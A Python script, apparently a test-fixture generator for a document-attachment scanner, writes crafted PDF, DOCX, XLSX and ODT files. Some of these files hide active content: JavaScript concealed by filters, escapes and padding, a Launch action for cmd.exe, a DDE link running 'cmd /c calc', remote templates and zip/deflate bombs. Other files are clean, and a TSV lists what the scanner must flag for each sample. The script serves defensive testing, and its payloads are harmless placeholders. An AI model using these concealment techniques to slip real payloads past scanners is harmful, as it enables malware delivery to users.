#!/usr/bin/env python3
"""Writes the crafted attachment corpus (issue 22): files that hide active content in the ways a reliability probe
found (attivi/), files that must be accepted (puliti/), and what each active file must be flagged for (attesi.tsv).
Run from anywhere: python3 tests/allegati/genera.py. Deterministic: same script, same bytes."""
import io, os, struct, zipfile, zlib, shutil

QUI = os.path.dirname(os.path.abspath(__file__))
ATTESI = []


def scrivi(cartella, nome, dati, atteso=None):
    os.makedirs(os.path.join(QUI, cartella), exist_ok=True)
    with open(os.path.join(QUI, cartella, nome), 'wb') as f:
        f.write(dati)
    if atteso:
        ATTESI.append(f"{nome}\t{atteso}")


# ---------- PDF ----------
def pdf(*oggetti, coda=b"trailer\n<< /Root 1 0 R >>\n%%EOF\n", testa=b"%PDF-1.7\n"):
    b = testa
    for i, o in enumerate(oggetti, 1):
        b += f"{i} 0 obj\n".encode() + o + b"\nendobj\n"
    return b + coda


def flusso(dizionario, dati):
    return dizionario.replace(b">>", b" /Length %d >>" % len(dati), 1) + b"\nstream\n" + dati + b"\nendstream"


def objstm(oggetti, filtro=b"/FlateDecode", codifica=zlib.compress, parametri=b""):
    testa, corpo = b"", b""
    for num, o in oggetti:
        testa += b"%d %d " % (num, len(corpo))
        corpo += o + b"\n"
    dati = codifica(testa + corpo)
    return flusso(b"<< /Type /ObjStm /N %d /First %d /Filter %s %s>>" % (len(oggetti), len(testa), filtro, parametri), dati)


CATALOGO = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGINE = b"<< /Type /Pages /Kids [] /Count 0 >>"
JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"

scrivi("attivi", "pdf_stream_in_un_commento.pdf",
       b"%PDF-1.7\n%stream\n1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R >>\nendobj\n2 0 obj\n" + JS +
       b"\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n", "JavaScript")
scrivi("attivi", "pdf_stream_in_una_stringa.pdf",
       pdf(b"<< /Type /Catalog /Title (stream) /OpenAction 2 0 R >>", JS), "JavaScript")
scrivi("attivi", "pdf_oggetto_dentro_una_stringa.pdf",
       pdf(CATALOGO, b"(5 0 obj " + JS + b" endobj)"), "JavaScript")
scrivi("attivi", "pdf_nome_con_escape.pdf", pdf(b"<< /Type /Catalog /OpenAction << /S /J#61va#53cript /J#53 (x) >> >>"), "JavaScript")
scrivi("attivi", "pdf_objstm_asciihex.pdf",
       pdf(CATALOGO, objstm([(3, JS)], b"/ASCIIHexDecode", lambda d: d.hex().encode() + b">")), "JavaScript")


def a85(d):
    import base64
    return base64.a85encode(d) + b"~>"


scrivi("attivi", "pdf_objstm_catena_di_filtri.pdf",
       pdf(CATALOGO, objstm([(3, JS)], b"[/ASCII85Decode /FlateDecode]", lambda d: a85(zlib.compress(d)))), "JavaScript")


def png_up(d, colonne=5):
    righe = [d[i:i + colonne].ljust(colonne, b" ") for i in range(0, len(d), colonne)]
    out, sopra = b"", bytes(colonne)
    for r in righe:
        out += b"\x02" + bytes((r[i] - sopra[i]) % 256 for i in range(colonne))
        sopra = r
    return out


scrivi("attivi", "pdf_objstm_predittore_png.pdf",
       pdf(CATALOGO, objstm([(3, JS)], b"/FlateDecode", lambda d: zlib.compress(png_up(d)),
                            b"/DecodeParms << /Predictor 12 /Columns 5 >> ")), "JavaScript")


def dopo_imbottitura(d):
    c = zlib.compressobj(9)
    out = c.compress(b" " * (64 * 1024 * 1024 + 10))
    return out + c.compress(d) + c.flush()


scrivi("attivi", "pdf_javascript_dopo_64_mib.pdf",
       pdf(CATALOGO, objstm([(3, JS)], b"/FlateDecode", dopo_imbottitura)), "JavaScript")
for s, parola in [(b"/URI /URI (http://esempio.invalid/)", "appena viene aperto"),
                  (b"/SubmitForm /F (http://esempio.invalid/)", "inviano dati"),
                  (b"/GoToR /F (altro.pdf) /D [0 /Fit]", "aprono altri file")]:
    nome = s.split()[0][1:].decode().lower()
    scrivi("attivi", f"pdf_openaction_{nome}.pdf", pdf(b"<< /Type /Catalog /OpenAction << /S " + s + b" >> >>"), parola)
scrivi("attivi", "pdf_openaction_uri_per_riferimento.pdf",
       pdf(b"<< /Type /Catalog /OpenAction 2 0 R >>", b"<< /S /URI /URI (http://esempio.invalid/) >>"), "appena viene aperto")
scrivi("attivi", "pdf_embeddedfiles_senza_tipo.pdf",
       pdf(b"<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(a.exe) 2 0 R] >> >> >>", b"<< /F (a.exe) >>"),
       "altri file")
scrivi("attivi", "pdf_annotazione_file_allegato.pdf",
       pdf(CATALOGO, PAGINE, b"<< /Type /Annot /Subtype /FileAttachment /FS 4 0 R >>", b"<< /Type /Filespec /F (x) >>"),
       "altri file")
scrivi("attivi", "pdf_launch.pdf", pdf(b"<< /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >>"), "avvia programmi")
scrivi("attivi", "pdf_azioni_automatiche.pdf", pdf(b"<< /Type /Catalog /AA << /O 2 0 R >> >>", b"<< /S /GoTo /D [0 /Fit] >>"),
       "azioni automatiche")
scrivi("attivi", "pdf_acroform.pdf", pdf(b"<< /Type /Catalog /AcroForm << /Fields [] >> >>"), "campi compilabili")
scrivi("attivi", "pdf_richmedia.pdf", pdf(CATALOGO, b"<< /Type /Annot /Subtype /RichMedia >>"), "multimediali")
scrivi("attivi", "pdf_intestazione_spostata.pdf", b"x" * 500 + pdf(b"<< /Type /Catalog /OpenAction 2 0 R >>", JS), "JavaScript")
scrivi("attivi", "pdf_cifrato.pdf", pdf(CATALOGO, coda=b"trailer\n<< /Root 1 0 R /Encrypt << /Filter /Standard >> >>\n%%EOF\n"), "cifrato")
# Many stream/endstream pairs (quadratic for a reader that looks back for each), then JavaScript.
molti = b"".join(b"%d 0 obj\n<< >>\nstream\nx\nendstream\nendobj\n" % (i + 10) for i in range(120_000))
scrivi("attivi", "pdf_molti_stream.pdf", pdf(b"<< /Type /Catalog /OpenAction 2 0 R >>", JS, coda=molti + b"%%EOF\n"), "JavaScript")


def bomba(n):
    c = zlib.compressobj(9)
    return c.compress(b"/" * n) + c.flush()


bombe = [objstm([], b"/FlateDecode", lambda d: bomba(40 * 1024 * 1024)) for _ in range(5)]
scrivi("attivi", "pdf_bomba_in_cinque_flussi.pdf", pdf(CATALOGO, *bombe), "per intero")
# Stream data whose /Length is wrong hides no object: it is read up to endstream.
scrivi("attivi", "pdf_lunghezza_falsa.pdf",
       pdf(b"<< /Type /Catalog /OpenAction 3 0 R >>", b"<< /Length 999999 >>\nstream\nabc\nendstream", JS), "JavaScript")

contenuto = zlib.compress(b"BT /F1 12 Tf (Ricevuta di pagamento: JavaScript e stream sono solo parole) Tj ET")
scrivi("puliti", "pdf_semplice.pdf", pdf(CATALOGO, PAGINE))
scrivi("puliti", "pdf_pagina_compressa.pdf", pdf(CATALOGO, PAGINE, flusso(b"<< /Filter /FlateDecode >>", contenuto)))
scrivi("puliti", "pdf_link_con_un_clic.pdf",
       pdf(CATALOGO, PAGINE, b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.agenziaentrate.gov.it) >> >>"))
scrivi("puliti", "pdf_apertura_su_una_pagina.pdf", pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", PAGINE,
                                                       b"<< /Type /Page /Parent 2 0 R >>"))
scrivi("puliti", "pdf_objstm_senza_azioni.pdf",
       pdf(CATALOGO, objstm([(3, b"<< /Type /Page /Parent 2 0 R >>"), (4, b"<< /Font 5 0 R >>")], b"/FlateDecode",
                            lambda d: zlib.compress(png_up(d)), b"/DecodeParms << /Predictor 12 /Columns 5 >> "), PAGINE))
scrivi("puliti", "pdf_immagine.pdf", pdf(CATALOGO, flusso(b"<< /Subtype /Image /Filter /DCTDecode >>", b"\xff\xd8\xff obj /JS")))


# ---------- ZIP packages ----------
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TIPI = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>{}</Types>')
DOC_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def override(parte, tipo):
    return f'<Override PartName="/{parte}" ContentType="{tipo}"/>'


def pacchetto(parti):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for nome, dati in parti:
            info = zipfile.ZipInfo(nome, (2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_STORED if nome == "mimetype" else zipfile.ZIP_DEFLATED
            z.writestr(info, dati.encode() if isinstance(dati, str) else dati)
    return buf.getvalue()


def rels(*r, virgolette='"'):
    q = virgolette
    corpo = "".join(f"<Relationship Id={q}rId{i}{q} Type={q}{R}/{t}{q} Target={q}{d}{q}{' TargetMode=' + q + 'External' + q if e else ''}/>"
                    for i, (t, d, e) in enumerate(r))
    return f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{corpo}</Relationships>'


def docx(documento=f"<w:document {W}><w:body><w:p><w:r><w:t>Testo</w:t></w:r></w:p></w:body></w:document>", altre=(), tipi="",
         principale="word/document.xml"):
    return pacchetto([("[Content_Types].xml", TIPI.format(override(principale, DOC_MAIN) + tipi)),
                      ("_rels/.rels", rels(("officeDocument", principale, False))),
                      (principale, documento), *altre])


CAMPO = f"<w:document {W}><w:body><w:p><w:r><w:instrText> DATE </w:instrText></w:r></w:p></w:body></w:document>"
scrivi("attivi", "docx_oleobject_esterno.docx",
       docx(altre=[("word/_rels/document.xml.rels", rels(("oleObject", "mhtml:http://esempio.invalid/x.html!", True)))]), "fuori dal file")
scrivi("attivi", "docx_frame_in_websettings.docx",
       docx(altre=[("word/_rels/webSettings.xml.rels", rels(("frame", "http://esempio.invalid/", True)))]), "fuori dal file")
scrivi("attivi", "docx_modello_remoto_apici_singoli.docx",
       docx(altre=[("word/_rels/settings.xml.rels", rels(("attachedTemplate", "http://esempio.invalid/t.dotm", True), virgolette="'"))]),
       "fuori dal file")
scrivi("attivi", "docx_modello_remoto_utf16.docx",
       docx(altre=[("word/_rels/settings.xml.rels", b"\xff\xfe" + rels(("attachedTemplate", "http://esempio.invalid/t.dotm", True)).replace(
           'version="1.0"?', 'version="1.0" encoding="UTF-16"?').encode("utf-16-le"))]), "fuori dal file")
scrivi("attivi", "docx_campo_nell_intestazione.docx",
       docx(altre=[("word/header1.xml", CAMPO.replace("w:document", "w:hdr"))],
            tipi=override("word/header1.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml")), "campi")
scrivi("attivi", "docx_campo_parte_principale_rinominata.docx", docx(CAMPO, principale="word/principale.xml"), "campi")
scrivi("attivi", "docx_campo_altro_prefisso.docx", docx(CAMPO.replace("w:", "x:").replace("xmlns:w", "xmlns:x")), "campi")
scrivi("attivi", "docx_campo_utf16.docx", docx("\ufeff" + CAMPO), "campi")
scrivi("attivi", "docx_campo_utf16_vero.docx", docx(b"\xff\xfe" + CAMPO.encode("utf-16-le")), "campi")
scrivi("attivi", "docx_vba_tipo_con_entita.docx",
       docx(altre=[("word/dati.bin", b"\xd0\xcf\x11\xe0")], tipi=override("word/dati.bin", "application/vnd.ms-office.vba&#80;roject")),
       "macro")
scrivi("attivi", "xlsx_macro_excel4_in_worksheets.xlsx",
       pacchetto([("[Content_Types].xml", TIPI.format(override("xl/workbook.xml", XL_MAIN) +
                                                       override("xl/worksheets/sheet2.xml", "application/vnd.ms-excel.macrosheet+xml"))),
                  ("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'),
                  ("xl/worksheets/sheet2.xml", '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>')]),
       "Excel 4")
scrivi("attivi", "xlsx_auto_open.xlsx",
       pacchetto([("[Content_Types].xml", TIPI.format(override("xl/workbook.xml", XL_MAIN))),
                  ("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames>'
                                      '<definedName name="_xlnm.Auto_Open">Foglio2!$A$1</definedName></definedNames></workbook>')]),
       "Excel 4")
scrivi("attivi", "xlsx_collegamento_esterno_dde.xlsx",
       pacchetto([("[Content_Types].xml", TIPI.format(override("xl/workbook.xml", XL_MAIN))),
                  ("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'),
                  ("xl/externalLinks/externalLink1.xml",
                   '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')]),
       "collegamenti")
scrivi("attivi", "xlsx_connessioni.xlsx",
       pacchetto([("[Content_Types].xml", TIPI.format(override("xl/workbook.xml", XL_MAIN) + override(
           "xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"))),
                  ("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'),
                  ("xl/connections.xml", '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="q"/></connections>')]),
       "collegamenti")
scrivi("attivi", "docx_altchunk_mht.docx",
       docx(altre=[("word/_rels/document.xml.rels", rels(("aFChunk", "pagina.mht", False))), ("word/pagina.mht", "MIME-Version: 1.0")]),
       "importa contenuti")
scrivi("attivi", "docx_ole_con_altro_nome.docx",
       docx(altre=[("word/media/dati.bin", b"\xd0\xcf\x11\xe0"), ("word/_rels/document.xml.rels", rels(("oleObject", "media/dati.bin", False)))],
            tipi=override("word/media/dati.bin", "application/vnd.openxmlformats-officedocument.oleObject")), "oggetti")
scrivi("attivi", "docx_activex.docx",
       docx(altre=[("word/activeX/activeX1.xml", "<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>")]), "ActiveX")


def sovrapposto(n=2000):
    """n central-directory entries, all pointing at one local header whose data inflates to 100 MB."""
    dati = bomba(100 * 1024 * 1024)[2:-4]  # raw deflate
    crc = zlib.crc32(b"/" * (100 * 1024 * 1024))
    nome = b"word/document.xml"
    locale = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(dati), 100 * 1024 * 1024, len(nome), 0) + nome + dati
    centrale = b""
    for i in range(n):
        nome_i = b"word/parte%05d.xml" % i
        centrale += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(dati), 100 * 1024 * 1024,
                                len(nome_i), 0, 0, 0, 0, 0, 0) + nome_i
    fine = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(centrale), len(locale), 0)
    return locale + centrale + fine


scrivi("attivi", "zip_voci_sovrapposte.docx", sovrapposto(), "sovrapposte")

scrivi("puliti", "docx_semplice.docx",
       docx(altre=[("word/_rels/document.xml.rels", rels(("hyperlink", "https://www.agenziaentrate.gov.it", True)))]))
scrivi("puliti", "xlsx_con_formule.xlsx",
       pacchetto([("[Content_Types].xml", TIPI.format(override("xl/workbook.xml", XL_MAIN))),
                  ("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="A" sheetId="1"/></sheets></workbook>'),
                  ("xl/worksheets/sheet1.xml", '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c><f>SUM(1,2)</f></c></row></sheetData></worksheet>')]))

# ---------- OpenDocument ----------
ODT = "application/vnd.oasis.opendocument.text"
NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
      'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
      'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"')


def odf(contenuto="<text:p>Testo</text:p>", altre=(), tipo=ODT, corpo="text"):
    return pacchetto([("mimetype", tipo),
                      ("META-INF/manifest.xml", '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                                                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'),
                      ("content.xml", f'<office:document-content {NS}><office:body><office:{corpo}>{contenuto}</office:{corpo}></office:body></office:document-content>'),
                      *altre])


EVENTO = '<ev:event-listener xmlns:ev="urn:oasis:names:tc:opendocument:xmlns:script:1.0" ev:event-name="dom:load" ev:language="ooo:script" xlink:href="x"/>'
scrivi("attivi", "odt_evento_altro_prefisso.odt", odf(f"<office:event-listeners>{EVENTO}</office:event-listeners>"), "eventi")
scrivi("attivi", "odt_evento_utf16.odt",
       odf(altre=[("styles.xml", b"\xff\xfe" + f'<office:document-styles {NS}>{EVENTO}</office:document-styles>'.encode("utf-16-le"))]), "eventi")
scrivi("attivi", "odt_evento_in_settings.odt",
       odf(altre=[("settings.xml", f'<office:document-settings {NS}>{EVENTO}</office:document-settings>')]), "eventi")
scrivi("attivi", "odt_link_a_uno_script.odt",
       odf('<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document">clic</text:a></text:p>'),
       "macro")
scrivi("attivi", "ods_dde.ods",
       odf('<table:table><table:table-row><table:table-cell/></table:table-row></table:table><table:dde-links><table:dde-link/></table:dde-links>',
           tipo="application/vnd.oasis.opendocument.spreadsheet", corpo="spreadsheet"), "DDE")
scrivi("attivi", "odt_basic.odt", odf(altre=[("Basic/Standard/Module1.xml", "<script:module xmlns:script='x'/>")]), "macro")
scrivi("attivi", "odt_che_e_un_word_con_macro.odt",
       pacchetto([("mimetype", ODT),
                  ("[Content_Types].xml", TIPI.format(override("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"))),
                  ("word/document.xml", f"<w:document {W}/>"), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]), "macro")

scrivi("puliti", "odt_semplice.odt", odf('<text:p>Vedi <text:a xlink:href="https://www.agenziaentrate.gov.it">il sito</text:a></text:p>'))
scrivi("puliti", "ods_semplice.ods",
       odf('<table:table><table:table-row><table:table-cell/></table:table-row></table:table>',
           tipo="application/vnd.oasis.opendocument.spreadsheet", corpo="spreadsheet"))

with open(os.path.join(QUI, "attesi.tsv"), "w") as f:
    f.write("# file\twords the refusal must contain (written by genera.py)\n" + "\n".join(sorted(ATTESI)) + "\n")
